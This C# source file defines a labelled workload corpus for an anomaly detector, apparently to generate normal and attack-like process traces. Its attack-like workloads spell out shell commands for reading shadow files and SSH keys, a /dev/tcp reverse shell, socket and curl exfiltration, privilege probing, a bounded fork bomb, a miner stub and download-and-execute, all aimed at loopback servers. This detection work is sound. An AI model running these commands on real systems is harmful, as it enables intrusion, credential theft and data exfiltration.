namespace Mis.Anomaly.Corpus;

/// <summary>What a corpus workload is.</summary>
public enum CorpusLabel
{
    /// <summary>Ordinary work an agent does.</summary>
    Normal,

    /// <summary>Attack-like, yet harmless and bounded: loopback only, timeouts, ulimits.</summary>
    Attack,
}

/// <summary>Where one corpus run happens: its scratch directory and the loopback servers' ports.</summary>
/// <param name="Scratch">A world-writable directory for this run (the workload runs as nobody).</param>
/// <param name="HttpPort">Loopback HTTP server: GET /page, GET /tool.sh, anything else 404; POST accepted.</param>
/// <param name="ShellPort">Loopback "attacker" listener that types a few commands into a reverse shell.</param>
/// <param name="SinkPort">Loopback sink that reads and discards (exfiltration target, mining pool).</param>
/// <param name="DotnetApp">A .NET program the workload's user may run (mis.dll), or null when none is readable.</param>
/// <param name="Variant">Which variant of the workload (0-based run number).</param>
public sealed record CorpusEnv(string Scratch, int HttpPort, int ShellPort, int SinkPort, string? DotnetApp, int Variant);

/// <summary>One workload of the corpus: a shell script run under <c>mis run --learn</c>.</summary>
/// <param name="Name">Directory-safe name.</param>
/// <param name="Label">Normal or attack-like.</param>
/// <param name="Runs">Runs (variants) in a full corpus.</param>
/// <param name="Script">The <c>/bin/bash -c</c> script of a run.</param>
public sealed record CorpusWorkload(string Name, CorpusLabel Label, int Runs, Func<CorpusEnv, string> Script)
{
    /// <summary>Hard limit of one run: the cgroup is killed after it.</summary>
    public TimeSpan Timeout { get; init; } = TimeSpan.FromSeconds(20);

    /// <summary>Whether the workload can run here (the .NET one needs a readable mis.dll).</summary>
    public Func<CorpusEnv, bool> Available { get; init; } = _ => true;
}

/// <summary>
/// The corpus's workloads. Every attack-like one is harmless and bounded: it talks to loopback
/// servers MIS itself runs, reads what the enforcer lets the unprivileged workload read (credential
/// files are denied and those denials are part of the trace), runs under <c>timeout</c> and
/// <c>ulimit</c>, and the runner kills its cgroup at <see cref="CorpusWorkload.Timeout"/>.
/// </summary>
public static class CorpusWorkloads
{
    private const string Py = "/usr/bin/python3";

    // Limits every attack-like script starts with: CPU seconds, processes of the user, file size.
    private const string Bounds = "ulimit -t 15 -u 400 -f 20000; ";

    /// <summary>All workloads, normal first.</summary>
    internal static IReadOnlyList<CorpusWorkload> All { get; } =
    [
        // ---- normal -----------------------------------------------------------------------
        new("shell-loop", CorpusLabel.Normal, 8, e =>
            $"for i in $(seq 1 {20 + 15 * e.Variant}); do echo \"line $i\"; done | sort -r | head -n 5; x=0; for f in /etc/*.conf; do x=$((x+1)); done; echo $x"),
        new("shell-script", CorpusLabel.Normal, 8, e =>
            $"cd {e.Scratch} && printf 'a\\nb\\nc\\n' > in.txt && for n in $(seq {1 + e.Variant}); do cat in.txt >> out.txt; done; wc -l out.txt; date +%s >/dev/null; uname -a; ls -la | tail -n 3"),
        new("text-tools", CorpusLabel.Normal, 8, e =>
            $"awk -F: '{{print $1}}' /etc/passwd | sort | uniq | head -n {3 + e.Variant}; sed -n '1,{5 + e.Variant}p' /etc/services | wc -c; cut -d' ' -f1 /etc/hosts | tr a-z A-Z"),
        new("find", CorpusLabel.Normal, 8, e =>
            $"find /usr/share/doc -maxdepth {1 + e.Variant % 3} -name '*{"aeiou"[e.Variant % 5]}*' | head -n 40 | wc -l; find /etc -maxdepth 1 -type f -newer /etc/hostname | head -n 5"),
        new("grep", CorpusLabel.Normal, 8, e =>
            $"grep -r -l -m1 -i '{(e.Variant % 2 == 0 ? "copyright" : "license")}' /usr/share/doc/{DocDir(e.Variant)} | head -n 20; grep -c tcp /etc/services"),
        new("tar-gzip", CorpusLabel.Normal, 8, e =>
            $"cd {e.Scratch} && tar czf docs.tgz -C /usr/share/doc {DocDir(e.Variant)} {DocDir(e.Variant + 3)} && tar tzf docs.tgz | wc -l && gzip -c /etc/services > s.gz && gunzip -c s.gz | md5sum"),
        new("gcc", CorpusLabel.Normal, 6, e =>
            $"cd {e.Scratch} && printf '#include <stdio.h>\\nint main(void){{int s=0;for(int i=0;i<{100 * (e.Variant + 1)};i++)s+=i;printf(\"%d\\\\n\",s);return 0;}}\\n' > hello.c && gcc -O{e.Variant % 3} -o hello hello.c && ./hello"),
        new("python", CorpusLabel.Normal, 8, e =>
            $"{Py} -c 'import json,hashlib,os,collections; d={{str(i): i*i for i in range({50 * (e.Variant + 1)})}}; s=json.dumps(d); print(hashlib.sha1(s.encode()).hexdigest()); print(collections.Counter(os.listdir(\"/etc\")).most_common(2)); open(\"{e.Scratch}/out.json\",\"w\").write(s)'"),
        new("python-files", CorpusLabel.Normal, 6, e =>
            $"cd {e.Scratch} && {Py} -c 'import pathlib,re; n=sum(1 for p in pathlib.Path(\"/usr/share/doc/{DocDir(e.Variant)}\").rglob(\"*\") if p.is_file()); print(n); print(len(re.findall(\"[a-z]+\", open(\"/etc/services\").read())))'"),
        new("dotnet", CorpusLabel.Normal, 4, e =>
            $"DOTNET_CLI_TELEMETRY_OPTOUT=1 DOTNET_NOLOGO=1 dotnet {e.DotnetApp} {(e.Variant % 2 == 0 ? "--help" : "--version")} | head -n 5")
        {
            Available = e => e.DotnetApp is not null,
        },
        new("dpkg-query", CorpusLabel.Normal, 6, e =>
            $"dpkg -l | head -n {10 + 10 * e.Variant} | tail -n 3; dpkg -s {new[] { "bash", "coreutils", "tar", "gzip", "sed", "grep" }[e.Variant % 6]} | head -n 4"),
        new("apt-cache", CorpusLabel.Normal, 6, e =>
            $"apt-cache policy {new[] { "bash", "coreutils", "tar", "gzip", "sed", "grep" }[e.Variant % 6]} | head -n 5; apt-cache show dpkg 2>/dev/null | head -n 3"),
        new("http-client", CorpusLabel.Normal, 8, e => e.Variant % 2 == 0
            ? $"curl -s -o /dev/null -w '%{{http_code}}\\n' http://127.0.0.1:{e.HttpPort}/page; curl -s http://127.0.0.1:{e.HttpPort}/page | wc -c"
            : $"{Py} -c 'import urllib.request; r=urllib.request.urlopen(\"http://127.0.0.1:{e.HttpPort}/page\", timeout=5); print(r.status, len(r.read()))'"),

        // ---- attack-like --------------------------------------------------------------------
        new("credential-read", CorpusLabel.Attack, 6, e => Bounds +
            $"cat /etc/shadow; cat /etc/gshadow; cat /root/.ssh/id_rsa; ls -la /root/.ssh /home/*/.ssh; cat /etc/ssh/ssh_host_{(e.Variant % 2 == 0 ? "rsa" : "ed25519")}_key; " +
            "grep -r -l 'PRIVATE KEY' /etc/ssh /home 2>/dev/null | head -n 5; cat /etc/passwd | cut -d: -f1,6; env | grep -i -E 'key|token|secret'; true"),
        new("reverse-shell", CorpusLabel.Attack, 6, e => Bounds +
            $"timeout 10 bash -c 'bash -i >& /dev/tcp/127.0.0.1/{e.ShellPort} 0>&1'; true"),
        new("exfiltration", CorpusLabel.Attack, 6, e => Bounds + (e.Variant % 3) switch
        {
            0 => $"tar czf - /etc/passwd /etc/group /etc/hosts /etc/services 2>/dev/null | timeout 10 {Py} -c 'import socket,sys; s=socket.create_connection((\"127.0.0.1\",{e.SinkPort})); s.sendall(sys.stdin.buffer.read()); s.close()'",
            1 => $"for f in /etc/passwd /etc/group /etc/os-release /etc/hostname; do base64 \"$f\" | timeout 5 curl -s -X POST --data-binary @- http://127.0.0.1:{e.HttpPort}/upload >/dev/null; done",
            _ => $"timeout 10 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{e.SinkPort}; find /etc -maxdepth 1 -name \"*.conf\" -readable | while read f; do cat \"$f\" >&3; done; exec 3>&-'",
        } + "; true"),
        new("privilege-probe", CorpusLabel.Attack, 6, e => Bounds +
            "id; command -v sudo && sudo -n -l; timeout 8 find / -xdev -perm -4000 -type f 2>/dev/null | head -n 30; " +
            $"grep -E '^(Name|Uid|CapEff)' /proc/[0-9]*/status 2>/dev/null | head -n {60 + 20 * e.Variant}; " +
            "cat /etc/sudoers; ls -la /etc/sudoers.d /etc/cron.d; cat /proc/self/status | grep -i cap; uname -r; true"),
        new("fork-bomb", CorpusLabel.Attack, 4, e => Bounds +
            // Bounded: depth-limited binary fork (at most 2^(depth+1) processes), plus the ulimit and timeout.
            $"timeout 10 bash -c 'f(){{ [ \"$1\" -lt {4 + e.Variant % 2} ] && {{ f $(($1+1)) & f $(($1+1)) & wait; }}; }}; f 0'; true"),
        new("miner", CorpusLabel.Attack, 6, e => Bounds +
            $"timeout 10 {Py} -c 'import hashlib,os,socket,time,threading\n" +
            $"s=socket.create_connection((\"127.0.0.1\",{e.SinkPort})); s.sendall(b\"{{\\\"method\\\":\\\"login\\\"}}\\n\"); lock=threading.Lock()\n" +
            "def work(seed):\n" +
            "  end=time.time()+1.5; n=0\n" +
            "  while time.time()<end:\n" +
            "    h=hashlib.sha256(os.urandom(16)+n.to_bytes(8,\"little\")).digest(); n+=1\n" +
            "    if h[0]==0:\n" +
            "      with lock: s.sendall(b\"{\\\"method\\\":\\\"submit\\\",\\\"nonce\\\":%d}\\n\" % n)\n" +
            $"ts=[threading.Thread(target=work,args=(i,)) for i in range({1 + e.Variant % 2})]\n" +
            "[t.start() for t in ts]; [t.join() for t in ts]; s.close()'; true"),
        new("download-exec", CorpusLabel.Attack, 6, e => Bounds +
            $"cd {e.Scratch} && timeout 10 {Py} -c 'import urllib.request; open(\"tool.sh\",\"wb\").write(urllib.request.urlopen(\"http://127.0.0.1:{e.HttpPort}/tool.sh\", timeout=5).read())' " +
            "&& chmod +x tool.sh && timeout 10 ./tool.sh; true"),
    ];

    private static string DocDir(int variant) =>
        new[] { "bash", "coreutils", "tar", "gzip", "apt", "dpkg", "grep", "sed" }[variant % 8];

    /// <summary>The script <c>GET /tool.sh</c> serves: what a dropper would run after download (harmless).</summary>
    internal const string DroppedScript =
        "#!/bin/sh\nid\nuname -a\nhostname\ncat /etc/passwd | head -n 3\nls -la /tmp | head -n 5\n" +
        "ps aux 2>/dev/null | head -n 5\ncat /etc/shadow 2>/dev/null\necho persisted > ./.hidden 2>/dev/null\nrm -f ./.hidden\n";

    /// <summary>What the listener types into a reverse shell, one line at a time.</summary>
    internal static readonly string[] ShellCommands =
        ["id", "uname -a", "pwd", "ls -la /", "cat /etc/passwd | head -n 5", "cat /etc/shadow", "ps aux | head -n 5", "exit"];
}
